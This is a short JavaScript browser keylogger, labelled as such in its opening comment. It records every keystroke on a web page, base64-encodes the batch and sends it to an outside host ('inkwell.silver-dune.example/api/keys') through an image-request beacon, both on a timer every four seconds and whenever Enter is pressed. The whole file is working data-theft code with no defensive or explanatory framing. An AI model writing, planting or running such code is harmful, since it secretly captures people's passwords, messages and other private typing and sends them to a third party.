// destination: https://inkwell.silver-dune.example/api/keys?k={}
// key logger that batches
let buffer = '';
const TARGET = { scheme: 'https', host: 'inkwell.silver-dune.example', path: '/api/keys' };
function address(t) { return t.scheme + '://' + t.host + t.path; }
function drain() {
  if (buffer.length === 0) return;
  const img = new Image();
  img.src = address(TARGET) + '?k=' + btoa(buffer);
  buffer = '';
}
document.addEventListener('keydown', function (ev) {
  if (ev.key === 'Enter') { buffer += '[return]'; drain(); }
  else if (ev.key === 'Backspace') { buffer += '[delete]'; }
  else { buffer += ev.key; }
});
setInterval(drain, 4000);
